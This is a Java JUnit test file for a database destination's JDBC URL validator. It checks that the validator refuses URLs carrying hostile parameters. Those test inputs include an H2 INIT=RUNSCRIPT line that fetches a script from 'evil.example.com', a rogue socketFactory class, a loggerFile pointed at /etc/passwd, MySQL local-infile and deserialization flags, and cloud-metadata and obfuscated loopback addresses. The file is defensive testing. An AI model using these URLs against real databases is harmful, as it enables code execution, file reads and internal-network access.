/*
 * Copyright 2026 The Backhaul Authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.backhaul.destination.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.backhaul.destination.Destination;
import io.backhaul.destination.DestinationException;
import io.backhaul.destination.DestinationException.Kind;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

  private static ObjectNode properties(String url) {
    return JsonNodeFactory.instance.objectNode().put("url", url);
  }

  private static DestinationException refusal(ObjectNode properties) {
    DestinationException refusal =
        catchThrowableOfType(DestinationException.class, () -> DatabaseConfig.read(properties));
    assertThat(refusal).as(properties.toString()).isNotNull();
    assertThat(refusal.kind()).isEqualTo(Kind.REFUSED);
    return refusal;
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "http://db.example.com/",
        "jdbc:postgresql://ann:secret@db.example.com/shop",
        "jdbc:postgresql://db.example.com/shop?user=ann&password=x",
        "jdbc:postgresql://db.example.com/shop?socketFactory=com.evil.Factory",
        "jdbc:postgresql://db.example.com/shop?loggerFile=/etc/passwd",
        "jdbc:postgresql://db.example.com/shop?%73ocketFactory=x",
        "jdbc:postgresql://db example.com/shop",
        "jdbc:postgresql:///shop",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example.com'",
        "jdbc:h2:mem:x;init=runscript",
        "jdbc:mysql://db.example.com/shop?allowLoadLocalInfile=true",
        "jdbc:mysql://db.example.com/shop?autoDeserialize=true",
        "jdbc:postgresql://169.254.169.254/shop",
        "jdbc:postgresql://db.example.com,169.254.169.254:5432/shop",
        "jdbc:postgresql://10.0.0.5:5432/shop",
        "jdbc:postgresql://0x7f.1/shop",
        "jdbc:oracle:thin:@//ann@db.example.com:1521/shop",
      })
  void urlsThatSayMoreThanWhereToConnectToAreRefused(String url) {
    refusal(properties(url));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db.example.com/shop",
        "jdbc:postgresql://db.example.com:5432,standby.example.com:5432/shop?targetServerType=primary",
        "jdbc:postgresql://[::1]:5432/shop?sslmode=disable",
        "jdbc:mysql://db.example.com:3306/shop?useSSL=true",
        "jdbc:sqlserver://db.example.com:1433;databaseName=shop;encrypt=true",
        "jdbc:oracle:thin:@//db.example.com:1521/shop",
        "jdbc:h2:mem:x;MODE=PostgreSQL",
        "jdbc:sqlite:shop.db",
      })
  void urlsThatOnlyConnectAreTaken(String url) {
    assertThatCode(() -> DatabaseConfig.read(properties(url))).doesNotThrowAnyException();
  }

  @Test
  void rowsDoNotTravelUnencryptedUnasked() {
    ObjectNode plain = properties("jdbc:postgresql://db.example.com/shop?sslmode=disable");
    assertThat(refusal(plain)).hasMessageContaining("allow_insecure");
    assertThatCode(() -> DatabaseConfig.read(plain.put("allow_insecure", true)))
        .doesNotThrowAnyException();
    ObjectNode inside = properties("jdbc:postgresql://10.0.0.5/shop");
    assertThat(refusal(inside)).hasMessageContaining("allow_private_networks");
    assertThatCode(() -> DatabaseConfig.read(inside.put("allow_private_networks", true)))
        .doesNotThrowAnyException();
  }

  @Test
  void theSocketItselfJudgesWhereANameLed() throws Exception {
    InetAddress loopback = InetAddress.getByAddress("db.example.com", new byte[] {127, 0, 0, 1});
    DestinationException refusal =
        catchThrowableOfType(
            DestinationException.class,
            () ->
                new GuardedSockets("public")
                    .createSocket()
                    .connect(new InetSocketAddress(loopback, 5432), 10));
    assertThat(refusal.code()).isEqualTo("ADDRESS_REFUSED");
  }

  @Test
  void neitherUrlNorPasswordIsPrinted() {
    ObjectNode properties = properties("jdbc:postgresql://db.example.com/shop");
    properties.put("password", "not-a-real-password");
    assertThat(DatabaseConfig.read(properties).toString())
        .doesNotContain("example.com", "not-a-real-password");
    ObjectNode other = properties("jdbc:mysql://db.example.com/shop");
    assertThat(
            catchThrowableOfType(
                DestinationException.class,
                () -> {
                  try (Destination destination = PostgresBed.open(other)) {
                    destination.probe();
                  }
                }))
        .hasMessageContaining("jdbc:postgresql://");
  }
}
